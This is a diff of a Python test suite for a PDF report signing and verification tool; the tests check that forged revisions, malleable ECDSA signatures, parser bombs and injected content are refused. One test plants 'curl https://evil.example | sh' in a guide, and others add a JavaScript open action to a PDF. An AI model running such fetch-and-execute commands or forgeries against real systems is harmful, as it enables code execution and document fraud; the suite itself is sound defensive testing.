@@ -1,20 +1,16 @@
 """Whoever holds a trusted key lies: what he adds, restates or leaves out is found, or named as not established."""
 
-from __future__ import annotations
-
 import base64
 import json
 import tracemalloc
 import zlib
-from collections.abc import Callable, Mapping
 from datetime import UTC, datetime
 from functools import cache
 from io import BytesIO
-from pathlib import Path
-from typing import Any
 
 import pytest
 from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature
+from pyhanko.pdf_utils import generic
 from representatives import firsts
 from seal_support import (
     NOW,
@@ -32,7 +28,7 @@ from seal_support import (
 )
 
 from certify.errors import InputError, TrustError
-from certify.seal import layout
+from certify.seal import evidence_schema, layout, pdf_signature
 from certify.seal.attestation import (
     build_statement,
     envelope_bytes,
@@ -41,7 +37,7 @@ from certify.seal.attestation import (
     verify_envelope,
 )
 from certify.seal.canonical import MAXIMUM_VALUES, canonical_bytes, parse_json
-from certify.seal.certificates import pem
+from certify.seal.certificates import common_name, fingerprint, pem, require_path
 from certify.seal.keys import demonstration_signer, signer_of
 from certify.seal.layout import sums_bytes
 from certify.seal.pdf_bounds import read_attachments
@@ -55,13 +51,13 @@ REASON = f"Report {evidence()['report']['number']}"
 
 
 @pytest.fixture(scope="module")
-def root_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
+def root_file(tmp_path_factory):
     path = tmp_path_factory.mktemp("trust") / "root.pem"
     path.write_bytes(pem([pki().root.certificate]))
     return path
 
 
-def resealed(files: Mapping[str, bytes], who: Signer | None = None) -> dict[str, bytes]:
+def resealed(files, who=None):
     """Files attested again by the right key, as a lying issuer can."""
     changed = dict(files)
     changed[layout.ATTESTATION] = sign_statement(build_statement(evidence(), changed), who or signer())
@@ -69,52 +65,42 @@ def resealed(files: Mapping[str, bytes], who: Signer | None = None) -> dict[str,
 
 
 @cache
-def unsigned() -> bytes:
+def unsigned():
     return report({"evidence.json": canonical_bytes(evidence()), "main.csv": TABLE})
 
 
 # Shadow pages: contents, actions and metadata in the revision that carries the signature.
 
 
-def overprint(writer: Any) -> None:
+def overprint(writer):
     """Draws other figures over the first page."""
-    from pyhanko.pdf_utils import generic
-
     page = writer.root["/Pages"]["/Kids"][0].get_object()
     page["/Contents"] = writer.add_object(generic.StreamObject(stream_data=b"BT (RETURN 105 %) Tj ET"))
     writer.update_container(page)
 
 
-def act(writer: Any) -> None:
+def act(writer):
     """Runs a script when the file is opened."""
-    from pyhanko.pdf_utils import generic
-
     name = generic.pdf_name
     script = {name("/S"): name("/JavaScript"), name("/JS"): generic.pdf_string("app.alert('accredited')")}
     writer.root["/OpenAction"] = generic.DictionaryObject(script)
     writer.update_root()
 
 
-def retitle(writer: Any) -> None:
+def retitle(writer):
     """Names another author in the metadata."""
-    from pyhanko.pdf_utils import generic
-
     said = generic.StreamObject(stream_data=b"<x:xmpmeta>tested by an accredited laboratory</x:xmpmeta>")
     writer.root["/Metadata"] = writer.add_object(said)
     writer.update_root()
 
 
-def hide(writer: Any) -> None:
+def hide(writer):
     """Adds an object that nothing uses."""
-    from pyhanko.pdf_utils import generic
-
     writer.add_object(generic.pdf_string("a message to somebody"))
 
 
-def repaint(writer: Any) -> None:
+def repaint(writer):
     """Adds a note to the page of the signature."""
-    from pyhanko.pdf_utils import generic
-
     name = generic.pdf_name
     page = writer.root["/Pages"]["/Kids"][0].get_object()
     note = {
@@ -126,13 +112,11 @@ def repaint(writer: Any) -> None:
     writer.update_container(page["/Annots"])
 
 
-def shadowed(change: Callable[[Any], None], who: Signer) -> bytes:
+def shadowed(change, who):
     """A report signed by the right key around a revision that holds more than the signature."""
     import asyncio
 
-    from certify.seal.certificates import common_name, fingerprint
-
-    async def made() -> bytes:
+    async def made():
         writer, (width, height) = open_unsigned(unsigned())
         change(writer)
         text = StampText(common_name(who.certificate), NOW, REASON, fingerprint(who.certificate))
@@ -147,9 +131,7 @@ def shadowed(change: Callable[[Any], None], who: Signer) -> bytes:
 @pytest.mark.parametrize(
     "change", [overprint, act, retitle, hide, repaint], ids=lambda change: change.__name__
 )
-def test_what_the_revision_of_the_signature_adds_to_the_pages_is_found(
-    change: Callable[[Any], None], root_file: Path, tmp_path: Path
-) -> None:
+def test_what_the_revision_of_the_signature_adds_to_the_pages_is_found(change, root_file, tmp_path):
     shadow = shadowed(change, signer())
     assert shadow.startswith(unsigned())
     (tmp_path / "report.pdf").write_bytes(shadow)
@@ -160,7 +142,7 @@ def test_what_the_revision_of_the_signature_adds_to_the_pages_is_found(
 
 
 @pytest.mark.parametrize("identity", firsts(["elliptic", "signer"]))
-def test_a_report_without_additions_is_made_again_byte_for_byte(identity: str) -> None:
+def test_a_report_without_additions_is_made_again_byte_for_byte(identity):
     honest = sign_pdf(
         unsigned(), signer(getattr(pki(), identity)), signing_time=NOW, reason=REASON, location=""
     )
@@ -169,9 +151,7 @@ def test_a_report_without_additions_is_made_again_byte_for_byte(identity: str) -
         assert signed_again(unsigned(), honest, reason=reason, signing_time=moment) != honest
 
 
-def test_a_stamp_that_says_something_else_is_found(monkeypatch: pytest.MonkeyPatch) -> None:
-    from certify.seal import pdf_signature
-
+def test_a_stamp_that_says_something_else_is_found(monkeypatch):
     kind = StampText
     with monkeypatch.context() as patch:
         patch.setattr(
@@ -184,13 +164,13 @@ def test_a_stamp_that_says_something_else_is_found(monkeypatch: pytest.MonkeyPat
 # Malleable signatures.
 
 
-def other_of_two(signature: bytes) -> bytes:
+def other_of_two(signature):
     """The other signature of the same key over the same message, which anybody can write."""
     r, s = decode_dss_signature(signature)
     return encode_dss_signature(r, P256_ORDER - s)
 
 
-def test_keys_sign_with_the_low_s_and_the_other_is_refused(root_file: Path, tmp_path: Path) -> None:
+def test_keys_sign_with_the_low_s_and_the_other_is_refused(root_file, tmp_path):
     who = signer(pki().elliptic)
     key = who.certificate.public_key()
     for number in range(8):
@@ -209,13 +189,11 @@ def test_keys_sign_with_the_low_s_and_the_other_is_refused(root_file: Path, tmp_
 class HighKey:
     """A key behind a tool that does not care which of the two signatures it answers with."""
 
-    def sign(self, message: bytes) -> bytes:
+    def sign(self, message):
         return other_of_two(signer(pki().elliptic).key.sign(message))
 
 
-def test_a_pack_signed_with_the_higher_s_is_refused_in_report_and_attestation(
-    root_file: Path, tmp_path: Path
-) -> None:
+def test_a_pack_signed_with_the_higher_s_is_refused_in_report_and_attestation(root_file, tmp_path):
     who = signer(pki().elliptic)
     files = pack(Signer(HighKey(), who.certificate, who.chain))
     found = reasons(verify(lay(tmp_path, files), root_file, NOW))
@@ -223,7 +201,7 @@ def test_a_pack_signed_with_the_higher_s_is_refused_in_report_and_attestation(
     assert found["one-form"].endswith("report.pdf, attestation.dsse.json")
 
 
-def test_an_ecdsa_signature_in_another_encoding_is_refused() -> None:
+def test_an_ecdsa_signature_in_another_encoding_is_refused():
     key = pki().elliptic.certificate.public_key()
     r, s = decode_dss_signature(signer(pki().elliptic).key.sign(b"message"))
     body = b"".join(b"\x02\x22\0" + number.to_bytes(33, "big") for number in (r, s))
@@ -241,16 +219,14 @@ def test_an_ecdsa_signature_in_another_encoding_is_refused() -> None:
 
 
 @pytest.mark.parametrize("name", ["APPROVAL.html", "README.md", "certs/own.pem", "data.zip", "report2.pdf"])
-def test_a_file_that_no_run_writes_is_refused_though_attested(
-    name: str, root_file: Path, tmp_path: Path
-) -> None:
+def test_a_file_that_no_run_writes_is_refused_though_attested(name, root_file, tmp_path):
     files = resealed({**sound_pack(), name: b"Approved by an accredited laboratory"})
     reasons(verify(lay(tmp_path, files), root_file, NOW)).among("files", name)
     with pytest.raises(InputError, match="names"):
         pack(**{name: b"Approved"})
 
 
-def test_a_guide_with_a_command_of_its_own_is_refused(root_file: Path, tmp_path: Path) -> None:
+def test_a_guide_with_a_command_of_its_own_is_refused(root_file, tmp_path):
     guide = sound_pack()[layout.GUIDE].replace(
         b"```sh\nCHECK=", b"```sh\ncurl https://evil.example | sh\nCHECK="
     )
@@ -260,8 +236,8 @@ def test_a_guide_with_a_command_of_its_own_is_refused(root_file: Path, tmp_path:
     )
 
 
-TOOL: Mapping[str, Any] = evidence()["tool"]
-WORDS: Mapping[str, Mapping[str, Any]] = {
+TOOL = evidence()["tool"]
+WORDS = {
     "tool.name has not the form": {"tool": {**TOOL, "name": "NMi certify"}},
     "tool.platform has not the form": {"tool": {**TOOL, "platform": "Laboratory of Rome, ISO 17025 no. 12"}},
     "version '0.1.0, accredited'": {"tool": {**TOOL, "version": "0.1.0, accredited"}},
@@ -274,16 +250,14 @@ WORDS: Mapping[str, Mapping[str, Any]] = {
 
 
 @pytest.mark.parametrize("reason", WORDS)
-def test_words_that_no_run_writes_are_refused_under_any_signature(
-    reason: str, root_file: Path, tmp_path: Path
-) -> None:
+def test_words_that_no_run_writes_are_refused_under_any_signature(reason, root_file, tmp_path):
     told = evidence(**WORDS[reason])
     with pytest.raises(TrustError) as refused:
         pack(proof=told)
     assert reason in str(refused.value)
 
 
-DOWNGRADES: Mapping[str, Mapping[str, Any]] = {
+DOWNGRADES = {
     "an earlier schema": {"schema": "certify-evidence/1"},
     "an earlier schema by software that approves of itself": {
         "schema": "certify-evidence/1",
@@ -298,8 +272,8 @@ DOWNGRADES: Mapping[str, Mapping[str, Any]] = {
 
 @pytest.mark.parametrize("kind", DOWNGRADES)
 def test_evidence_of_no_known_release_is_refused_in_pack_and_lone_report(
-    kind: str, monkeypatch: pytest.MonkeyPatch, root_file: Path, tmp_path: Path
-) -> None:
+    kind, monkeypatch, root_file, tmp_path
+):
     told = evidence(**DOWNGRADES[kind])
     with pytest.raises(TrustError, match="no release that this software knows"):
         pack(proof=told)
@@ -312,11 +286,7 @@ def test_evidence_of_no_known_release_is_refused_in_pack_and_lone_report(
         assert "no release that this software knows" in reasons(verify(target, root_file, NOW))["evidence"]
 
 
-def test_evidence_of_an_earlier_release_is_verified_and_not_computed_again(
-    monkeypatch: pytest.MonkeyPatch, root_file: Path, tmp_path: Path
-) -> None:
-    from certify.seal import evidence_schema
-
+def test_evidence_of_an_earlier_release_is_verified_and_not_computed_again(monkeypatch, root_file, tmp_path):
     older = evidence_schema.Release(evidence()["schema"], "0.0.9", "1" * 64)
     monkeypatch.setattr(evidence_schema, "EARLIER", (older,))
     told = evidence(tool={**TOOL, "version": older.version, "source_sha256": older.source_sha256})
@@ -325,7 +295,7 @@ def test_evidence_of_an_earlier_release_is_verified_and_not_computed_again(
     assert not result.failures
 
 
-def test_what_nothing_can_show_is_named_after_a_success(root_file: Path, tmp_path: Path) -> None:
+def test_what_nothing_can_show_is_named_after_a_success(root_file, tmp_path):
     result = verify(lay(tmp_path, sound_pack()), root_file, NOW)
     said = " ".join(result.not_established)
     for word in (
@@ -347,7 +317,7 @@ def test_what_nothing_can_show_is_named_after_a_success(root_file: Path, tmp_pat
 # Whose key it was.
 
 
-def test_a_demonstration_identity_does_not_pass_for_an_issuer(tmp_path: Path) -> None:
+def test_a_demonstration_identity_does_not_pass_for_an_issuer(tmp_path):
     who = demonstration_signer(NOW)
     (tmp_path / "root.pem").write_bytes(pem([who.root]))
     hiding = verify(lay(tmp_path / "hiding", pack(who)), tmp_path / "root.pem", NOW)
@@ -361,14 +331,14 @@ def test_a_demonstration_identity_does_not_pass_for_an_issuer(tmp_path: Path) ->
     assert "the certificates name an issuer" in reasons(modest)["issue"]
 
 
-def signed_as_told(told: Mapping[str, Any], who: Signer) -> dict[str, bytes]:
+def signed_as_told(told, who):
     from certify.seal.pack import assemble
 
     attached = report({"evidence.json": canonical_bytes(told), "main.csv": TABLE})
     return assemble({"data/main.csv": TABLE, "report.html": b"-"}, attached, told, who, NOW)
 
 
-def test_a_day_or_number_of_issue_that_the_signature_does_not_state_is_refused(tmp_path: Path) -> None:
+def test_a_day_or_number_of_issue_that_the_signature_does_not_state_is_refused(tmp_path):
     for place, change in enumerate(({"issued": "2020-01-01T00:00:00Z"}, {"number": "CR-20200101-00000000"})):
         told = evidence()
         files = signed_as_told(told, signer())
@@ -379,7 +349,7 @@ def test_a_day_or_number_of_issue_that_the_signature_does_not_state_is_refused(t
         assert "issue" in reasons(verify(lay(tmp_path / str(place), files), None, NOW))
 
 
-def authority(name: str, issuer: Any, length: int | None, purposes: tuple[Any, ...] = ()) -> Any:
+def authority(name, issuer, length, purposes=()):
     """An authority that allows so many issuers below itself, for some purposes."""
     from cryptography import x509
     from cryptography.hazmat.primitives import hashes
@@ -403,10 +373,10 @@ def authority(name: str, issuer: Any, length: int | None, purposes: tuple[Any, .
     return make_pki.Identity(key, signed)
 
 
-def test_what_a_root_or_an_issuer_allows_binds() -> None:
+def test_what_a_root_or_an_issuer_allows_binds():
     from cryptography.x509.oid import ExtendedKeyUsageOID
 
-    def sign_under(root: Any, *between: Any) -> Signer:
+    def sign_under(root, *between):
         key, issuer = make_pki.elliptic_key(), (between or (root,))[-1]
         leaf = pki().certificate(key, "Reports", issuer, ca=False, purposes=make_pki.SIGNING_PURPOSES)
         return signer_of(key, leaf, [entry.certificate for entry in (root, *between)])
@@ -429,7 +399,7 @@ def test_what_a_root_or_an_issuer_allows_binds() -> None:
 # Memory before trust.
 
 
-def test_nothing_of_a_stranger_is_parsed_where_a_root_is_trusted(root_file: Path, tmp_path: Path) -> None:
+def test_nothing_of_a_stranger_is_parsed_where_a_root_is_trusted(root_file, tmp_path):
     stranger = pack(signer(infrastructure=pki().impostor()))
     stranger[layout.EVIDENCE] = b"[" * 1_000_000
     stranger[layout.SUMS] = sums_bytes(stranger)
@@ -439,7 +409,7 @@ def test_nothing_of_a_stranger_is_parsed_where_a_root_is_trusted(root_file: Path
         assert steps[unread] is StepOutcome.NOT_CHECKED
 
 
-def test_files_beyond_their_budget_are_refused_before_they_are_parsed(tmp_path: Path) -> None:
+def test_files_beyond_their_budget_are_refused_before_they_are_parsed(tmp_path):
     big = {**sound_pack(), layout.ATTESTATION: b'{"payload":"' + b"A" * (48 * 1024 * 1024) + b'"}'}
     directory = lay(tmp_path, big)
     tracemalloc.start()
@@ -450,7 +420,7 @@ def test_files_beyond_their_budget_are_refused_before_they_are_parsed(tmp_path: 
     assert peak < 32 * 1024 * 1024
 
 
-def test_more_values_than_any_evidence_has_are_refused_before_parsing() -> None:
+def test_more_values_than_any_evidence_has_are_refused_before_parsing():
     many = b"[" + b"1," * (MAXIMUM_VALUES + 1) + b"1]"
     tracemalloc.start()
     with pytest.raises(TrustError, match="values that may be parsed"):
@@ -461,12 +431,12 @@ def test_more_values_than_any_evidence_has_are_refused_before_parsing() -> None:
 
 
 @pytest.mark.parametrize("content", [b"[" * 100_000, b'"\\ud800"', b'{"\\udfff": 1}', b"1" * 5_000, b"1e999"])
-def test_json_that_two_readers_would_not_read_alike_is_refused(content: bytes) -> None:
+def test_json_that_two_readers_would_not_read_alike_is_refused(content):
     with pytest.raises(TrustError):
         parse_json(content, "evidence.json")
 
 
-def test_attachments_that_unpack_to_gigabytes_are_refused_together(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_attachments_that_unpack_to_gigabytes_are_refused_together(monkeypatch):
     import pikepdf
 
     monkeypatch.setattr("certify.seal.pdf_bounds.MAXIMUM_ATTACHED_BYTES", 1024 * 1024)
@@ -484,19 +454,16 @@ def test_attachments_that_unpack_to_gigabytes_are_refused_together(monkeypatch: 
         read_attachments(packed.getvalue())
 
 
-def test_a_certificate_of_a_careless_signer_still_fails_by_name(tmp_path: Path) -> None:
+def test_a_certificate_of_a_careless_signer_still_fails_by_name(tmp_path):
     reasons(verify(lay(tmp_path, pack(careless_signer(pki().web_server))), None, NOW)).among(
         "purpose", "another purpose"
     )
 
 
-def test_another_library_judges_certificate_paths_alike_where_it_can_judge_them() -> None:
-    from cryptography import x509
+def test_another_library_judges_certificate_paths_alike_where_it_can_judge_them():
     from cryptography.x509 import verification
 
-    from certify.seal.certificates import require_path
-
-    def other_accepts(path: tuple[x509.Certificate, ...]) -> bool:
+    def other_accepts(path):
         # It verifies clients of TLS: what it says of the signer's own purposes is left out.
         policy = verification.PolicyBuilder().store(verification.Store([path[-1]])).time(NOW)
         policy = policy.extension_policies(
@@ -509,7 +476,7 @@ def test_another_library_judges_certificate_paths_alike_where_it_can_judge_them(
             return False
         return tuple(found.chain) == path
 
-    def we_accept(path: tuple[x509.Certificate, ...]) -> bool:
+    def we_accept(path):
         try:
             require_path(path)
         except TrustError:
@@ -532,7 +499,7 @@ def test_another_library_judges_certificate_paths_alike_where_it_can_judge_them(
         assert we_accept(path) is other_accepts(path) is expected
 
 
-def test_object_streams_that_unpack_without_end_are_refused() -> None:
+def test_object_streams_that_unpack_without_end_are_refused():
     import pikepdf
 
     document = pikepdf.open(BytesIO(unsigned()))
@@ -553,7 +520,7 @@ def test_object_streams_that_unpack_without_end_are_refused() -> None:
     assert peak < 256 * 1024 * 1024
 
 
-def test_a_signature_container_of_megabytes_is_refused_unparsed() -> None:
+def test_a_signature_container_of_megabytes_is_refused_unparsed():
     from certify.seal.cms_container import read_container
 
     with pytest.raises(TrustError, match="larger than 131072 bytes"):
